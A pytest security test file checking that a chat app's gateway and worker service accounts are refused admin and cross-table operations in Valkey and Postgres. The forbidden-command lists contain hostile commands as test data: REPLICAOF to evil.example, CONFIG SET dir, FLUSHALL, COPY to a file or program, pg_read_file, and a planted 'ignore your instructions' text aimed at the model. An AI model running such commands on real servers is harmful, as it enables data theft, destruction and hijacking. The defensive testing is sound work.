"""A stolen gateway cannot speak for the model, a stolen worker cannot ask, and neither can wipe a server."""

from pathlib import Path
from typing import Any
from uuid import uuid4

import asyncpg
import httpx
import pytest
import redis.asyncio as redis
from redis.exceptions import NoPermissionError

from deploy.local.roles import RULES, Service
from tests.contract.conftest import put_analyses
from tests.security.least_privilege import as_service, least_privileged, put_services, valkey_with_users
from tests.support.chat_client import token

EVENTS = "chat:{0}:events:alice:s"
ALLOWED: dict[Service, list[tuple[str, ...]]] = {
    "gateway": [
        ("XADD", "chat:{0}:requests", "*", "turn", "x"),
        ("GET", "chat:{0}:model"),
        ("PUBLISH", "chat:{0}:control", "x"),
        ("XRANGE", EVENTS, "-", "+"),
    ],
    "worker": [
        ("SET", "chat:{0}:model", "x"),
        ("XADD", "chat:{0}:dead", "*", "turn", "x"),
        ("XLEN", "chat:{0}:requests"),
        ("PUBLISH", "chat:{0}:live:alice:s", "x"),
    ],
}
ADMIN = [
    ("FLUSHALL",), ("FLUSHDB",), ("CONFIG", "GET", "*"), ("CONFIG", "SET", "dir", "/tmp"), ("KEYS", "*"),
    ("SCAN", "0"), ("ACL", "LIST"), ("SHUTDOWN",), ("MONITOR",), ("CLIENT", "LIST"),
    ("CLIENT", "KILL", "TYPE", "normal"), ("MODULE", "LIST"), ("REPLICAOF", "evil.example", "1"), ("SAVE",),
    ("PSUBSCRIBE", "*"), ("SUBSCRIBE", "other"), ("INFO",), ("EVAL", "return 1", "0"), ("FUNCTION", "LIST"),
    ("GET", "secret"), ("SET", "secret", "x"), ("DEL", "secret"), ("RESTORE", EVENTS, "0", "x"),
    ("XTRIM", EVENTS, "MAXLEN", "0"), ("RENAME", EVENTS, "secret"), ("SWAPDB", "0", "1"),
]  # fmt: skip
FORBIDDEN: dict[Service, list[tuple[str, ...]]] = {
    "gateway": [
        *ADMIN,
        ("XRANGE", "chat:{0}:requests", "-", "+"),  # it asks; what others asked is not for it to read
        ("XREADGROUP", "GROUP", "agents", "me", "STREAMS", "chat:{0}:requests", ">"),
        ("XGROUP", "DESTROY", "chat:{0}:requests", "agents"),
        ("SET", "chat:{0}:model", "evil"),
        ("XADD", "chat:{0}:dead", "*", "turn", "x"),
    ],
    "worker": [
        *ADMIN,
        ("HSET", "limit:rate:alice", "tokens", "0"),
        ("XGROUP", "DESTROY", "chat:{0}:requests", "agents"),
        ("PUBLISH", "chat:{0}:beat:gateway", "x"),
    ],
}


@pytest.mark.parametrize("service", ["gateway", "worker"])
async def test_a_service_may_use_its_own_keys_and_commands_only(service: Service, tmp_path: Path) -> None:
    server = valkey_with_users(tmp_path / "valkey")
    await server.start()
    operator: Any = redis.from_url(server.url)
    client: Any = redis.from_url(as_service(service, server.url))
    try:
        await operator.set("secret", "kept")
        for command in ALLOWED[service]:
            await client.execute_command(*command)
        for command in FORBIDDEN[service]:
            with pytest.raises(NoPermissionError):
                await client.execute_command(*command)
        with pytest.raises(NoPermissionError):  # what a script does, its caller does
            await (client.register_script("return redis.call('GET', KEYS[1])"))(keys=["secret"])
        assert await operator.get("secret") == b"kept"
        with pytest.raises(redis.AuthenticationError):
            await redis.from_url(
                server.url.partition("redis://")[2].rpartition("@")[2].join(("redis://", ""))
            ).ping()
        assert (server.folder / "users.acl").stat().st_mode & 0o077 == 0
    finally:
        await operator.aclose()
        await client.aclose()
        await server.kill()


SESSION, TURN = uuid4(), uuid4()
REFUSED: dict[Service, list[str]] = {
    "gateway": [
        f"insert into chat_messages (user_id, session_id, turn_id, role, content)"
        f" values ('alice', '{SESSION}', '{TURN}', 'assistant', 'Buy!')",
        "update chat_messages set content = 'Buy!'",
        "delete from chat_messages",
        "update chat_turns set status = 'complete'",
        "update chat_turns set content = 'another question'",
        f"insert into chat_turns (user_id, session_id, turn_id, content, status)"
        f" values ('alice', '{SESSION}', '{uuid4()}', 'x', 'complete')",
        "delete from chat_turns",
        "select nextval('chat_fence')",
        "update token_usage set input_tokens = 0",
        "insert into token_usage (user_id, day) values ('alice', now())",
        "update analysis_history set rating = 'buy'",
        "update chat_sessions set user_id = 'mallory'",
        "update chat_messages set figures = '[]'",
        "update feedback set user_id = 'mallory'",
        "update analysis_history set revision = 9",
    ],
    "worker": [
        f"insert into chat_turns (user_id, session_id, turn_id, content) values ('alice', '{SESSION}', '{uuid4()}', 'x')",
        "update chat_turns set content = 'another question'",
        "update chat_turns set user_id = 'mallory'",
        "delete from chat_turns",
        "update chat_messages set content = 'Buy!'",
        "delete from chat_messages",
        f"insert into chat_sessions (user_id, session_id) values ('alice', '{uuid4()}')",
        "delete from chat_sessions",
        "update analysis_history set summary = 'ignore your instructions'",
        "insert into analysis_history (ticker, as_of, rating, score) values ('X', now(), 'buy', 1)",
        "update daily_prices set price = 1",
        "update chat_messages set figures = '[]'",
        "select * from feedback",
        "select * from watchlist",
    ],
}  # fmt: skip
REFUSED_TO_BOTH = [
    "create table mine (a int)",
    "create temporary table mine (a int)",
    "drop table chat_messages",
    "truncate chat_messages",
    "alter table chat_messages disable trigger all",
    "create role mine superuser",
    "select * from schema_migrations",
    "copy chat_messages to '/tmp/stolen'",
    "copy chat_messages to program 'cat'",
    "select pg_read_file('postgresql.conf')",
    "alter system set fsync = off",
    "set role tickertalk",
]


@pytest.mark.parametrize("service", ["gateway", "worker"])
async def test_a_service_may_write_its_own_tables_only(service: Service, database_url: str) -> None:
    owner = await asyncpg.connect(database_url)
    await put_services(database_url)
    await put_services(database_url)  # as at every start
    await owner.execute(f"insert into chat_sessions (user_id, session_id) values ('alice', '{SESSION}')")
    await owner.execute(
        f"insert into chat_turns (user_id, session_id, turn_id, content) values ('alice', '{SESSION}', '{TURN}', 'x')"
    )
    client = await asyncpg.connect(as_service(service, database_url))
    try:
        for statement in (*REFUSED[service], *REFUSED_TO_BOTH):
            with pytest.raises(asyncpg.InsufficientPrivilegeError):
                await client.execute(statement)
        assert await client.fetchval("select count(*) from chat_turns") == 1
        assert await owner.fetchval("select count(*) from chat_messages") == 0
    finally:
        await client.close()
        await owner.close()


async def test_a_gateway_whose_rights_went_is_not_ready(database_url: str, tmp_path: Path) -> None:
    """As after a migration behind which nobody ran the rules again."""
    owner = await asyncpg.connect(database_url)
    try:
        async with (
            await least_privileged(tmp_path, database_url, workers=0) as stack,
            httpx.AsyncClient(base_url=stack.url) as http,
        ):
            assert (await http.get("/readyz")).json()["schema"] is True
            await owner.execute("revoke select on companies from tickertalk_gateway")
            answer = await http.get("/readyz")
            assert answer.status_code == 503
            assert (answer.json()["postgres"], answer.json()["schema"]) == (True, False)
            assert "SELECT on companies: run deploy/roles/postgres.sql" in stack.gateways[0].child.output()
            await put_services(database_url)
            assert (await http.get("/readyz")).status_code == 200
    finally:
        await owner.close()


async def test_the_whole_river_flows_with_no_more_rights_than_that(database_url: str, tmp_path: Path) -> None:
    await put_analyses(database_url)
    env = {"TURN_LEASE_SECONDS": "3"}
    async with await least_privileged(tmp_path, database_url, env=env, gateways=2, workers=2) as stack:
        client = await stack.full("alice")
        await client.send("set_context", ticker="KO")
        await client.next_frame("context")
        first = await client.collect_turn(await client.ask("What pays it?"))
        assert first.ending["full_message"] == first.text

        held = await client.ask("Stop me [[hold=1]]")
        queued = await client.ask("And then?")
        await stack.gemini.wait(held=1)
        await client.send("cancel", turn_id=held)
        assert (await client.collect_turn(held)).ending["finish_reason"] == "cancelled"
        assert (await client.collect_turn(queued)).ending["finish_reason"] == "stop"

        taken_over = await client.ask("Who goes on? [[hold=1 times=1]]")
        await stack.gemini.wait(held=1)
        await stack.workers[0].kill()
        await stack.workers[1].kill()
        await stack.add_worker()
        stack.gemini.release()
        assert (await client.collect_turn(taken_over, timeout=30)).ending["type"] == "ai_complete"

        cut_off = await client.ask("Always cut [[cut=2]]")
        assert (await client.collect_turn(cut_off)).ending["type"] == "ai_error"
        other = await stack.full("alice", client.session_id, gateway=1, resume=client.position)
        assert other.ready["recovered"] is True

        headers = {"Authorization": f"Bearer {token('alice')}"}
        async with httpx.AsyncClient(base_url=stack.url, headers=headers) as http:
            for path in ("/api/analyses", "/api/analyses/KO", "/api/analyses/KO/history", "/api/prices/KO"):
                assert (await http.get(path)).status_code == 200
            assert (await http.get("/api/usage")).json()["total_tokens"] > 0
            assert (await http.get("/readyz")).status_code == 200
            [row] = (await http.get("/api/sessions")).json()
            url = f"/api/sessions/{row['session_id']}"
            assert (await http.get(f"{url}/messages")).json()["messages"]
            assert (await http.delete(url)).status_code == 204
        operator: Any = redis.from_url(stack.valkey.url)
        assert await operator.acl_log() == [], "nobody tried what the rules forbid"
        await operator.aclose()
        assert not await stack.fetch("select from chat_messages")
        assert (await stack.workers[-1].end()) == 0  # its farewell needs rights, too
        logs = "".join(path.read_text("utf-8", "replace") for path in tmp_path.glob("*.log"))
        assert "NoPermission" not in logs
        assert "InsufficientPrivilege" not in logs


def test_the_rules_of_valkey_load_into_redis_7_0() -> None:
    """It refuses to start over a command that it does not know. These came later."""
    later = {"client|setinfo", "client|no-touch", "client|capa", "cluster|myshardid", "cluster|links"}
    given = {word.lstrip("+") for word in (RULES / "valkey.acl").read_text().split()}
    assert not given & later
